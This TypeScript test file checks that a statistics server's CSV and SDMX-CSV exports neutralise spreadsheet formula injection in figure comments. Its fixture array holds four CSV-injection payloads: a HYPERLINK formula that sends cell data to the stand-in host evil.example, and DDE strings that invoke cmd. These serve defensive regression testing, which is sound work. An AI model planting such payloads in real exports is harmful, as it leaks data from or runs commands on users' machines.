/**
 * Issue 13, item 4: CSV formula injection. A figure comment beginning with `=`, `+`, `-` or `@` went out as it
 * was in `format=csv` and `format=sdmx-csv`, so a spreadsheet opening the export ran it; with a public indicator
 * anyone could download it. Every CSV the server writes now goes through src/domain/csv-safe.ts (OWASP's rule):
 * such text cells get a leading `'`, numbers stay numbers.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import sql from 'sql-template-tag';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, sessionHeaders, type TestApp } from '../../../../test/app';
import { testDatabases } from '../../../../test/databases';
import { type ExchangeWorld, IBC_HEADER, makeExchangeWorld } from '../../../../test/exchange-world';
import { renderTable } from '../../analytics/analytics.export';

/** The four kinds of payload OWASP lists, as a data provider could write them in a figure's comment. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"ok")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
];

/** The export's columns are ROW_FIELDS, then `derived`: the comment is the 16th. */
const IBC_COLUMNS = 16;

describe.each(testDatabases())('exchange: CSV exports are safe to open in a spreadsheet [%s]', (kind) => {
  let t: TestApp;
  let w: ExchangeWorld;
  beforeAll(async () => {
    t = await createTestApp(kind);
    w = await makeExchangeWorld(t);
    // A public dialogue with public indicators: the export is anonymous.
    await t.db.query(sql`UPDATE dialogues SET classification = 'public' WHERE id = ${w.dialogueId}`);
    await t.db.query(
      sql`UPDATE indicators SET classification = 'public' WHERE dialogue_id = ${w.dialogueId}`,
    );
    await t.db.query(sql`UPDATE routes SET classification = 'public' WHERE dialogue_id = ${w.dialogueId}`);
    const citizenships = ['TUN', 'EGY', 'BGD', 'SYR'];
    const lines = [
      IBC_HEADER,
      ...PAYLOADS.map(
        (p, i) =>
          `IBC,ITA,2023-0${i + 1},CMR,SEA,${citizenships[i]},_T,_T,${10 + i},,"${p.replaceAll('"', '""')}"`,
      ),
    ];
    const imported = await t.app.inject({
      method: 'POST',
      url: `/api/dialogues/${w.slug}/imports`,
      headers: { ...sessionHeaders(w.cookies.providerIta), 'content-type': 'text/csv' },
      payload: lines.join('\n'),
    });
    expect(imported.statusCode, imported.body).toBe(201);
    const id = imported.json().submissionId;
    const step = (cookie: string, name: string) =>
      t.app.inject({
        method: 'POST',
        url: `/api/dialogues/${w.slug}/submissions/${id}/${name}`,
        headers: sessionHeaders(cookie),
        payload: {},
      });
    expect((await step(w.cookies.providerIta, 'submit')).statusCode).toBe(200);
    expect((await step(w.cookies.manager, 'validate')).statusCode).toBe(200);
    expect((await step(w.cookies.manager, 'publish')).statusCode).toBe(200);
  });
  afterAll(() => t?.close());

  // Comments are for the dialogue's members (src/shared/privacy.ts): the member's export is the one at risk.
  const download = async (query: string, cookie: string | null = w.cookies.analystIta) => {
    const res = await t.app.inject({
      url: `/api/dialogues/${w.slug}/observations?indicator=IBC&${query}`,
      headers: cookie ? sessionHeaders(cookie) : {},
    });
    expect(res.statusCode, res.body).toBe(200);
    // With columns: true, csv-parse gives one object per record, keyed by the header.
    return parse(res.body, { columns: true }) as Record<string, string>[];
  };

  it('escapes the four payload kinds in format=csv for a member; values stay numbers', async () => {
    const rows = await download('format=csv');
    expect(rows.map((r) => r.comment)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.map((r) => r.value)).toEqual(['10', '11', '12', '13']);
    for (const r of rows) expect(Object.values(r).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('gives an anonymous caller the public figures without their comments', async () => {
    const rows = await download('format=csv', null);
    expect(rows.map((r) => r.value)).toEqual(['10', '11', '12', '13']);
    expect(rows.map((r) => r.comment)).toEqual(['', '', '', '']);
  });

  it('escapes them in format=sdmx-csv too', async () => {
    const rows = await download('format=sdmx-csv');
    expect(rows.map((r) => r.COMMENT)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.map((r) => r.OBS_VALUE)).toEqual(['10', '11', '12', '13']);
  });

  it('keeps the JSON and XLSX answers as they are (text there is never a formula)', async () => {
    const member = sessionHeaders(w.cookies.analystIta);
    const res = await t.app.inject({
      url: `/api/dialogues/${w.slug}/observations?indicator=IBC`,
      headers: member,
    });
    expect(res.json().map((o: { comment: string }) => o.comment)).toEqual(PAYLOADS);
    const xlsx = await t.app.inject({
      url: `/api/dialogues/${w.slug}/observations?indicator=IBC&format=xlsx`,
      headers: member,
    });
    const wb = new ExcelJS.Workbook();
    // ExcelJS's types want an ArrayBuffer; it reads a Buffer as well (as the other export tests do).
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('data')!;
    const comments = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(IBC_COLUMNS).value);
    expect(comments).toEqual(PAYLOADS); // string cells: a spreadsheet shows them, never runs them
  });

  it('escapes text in the analytics CSV exports, keeping their numbers (negative ones too)', async () => {
    // Analytics tables hold codes and numbers only; a code that got into the database directly is escaped too.
    const out = await renderTable(
      {
        name: 'x',
        header: ['route', 'period', 'value', 'yoy_pct'],
        rows: [['=EVIL()', '2023-01', 10, -12.5]],
      },
      'csv',
      null,
    );
    expect(out.body).toBe(`route,period,value,yoy_pct\n'=EVIL(),2023-01,10,-12.5\n`);
    const member = await t.app.inject({
      url: `/api/dialogues/${w.slug}/analytics/route-month?indicator=IBC&format=csv`,
      headers: sessionHeaders(w.cookies.analystIta),
    });
    expect(member.statusCode, member.body).toBe(200);
    expect(member.body.split('\n')[0]).toBe('route,period,value');
  });
});
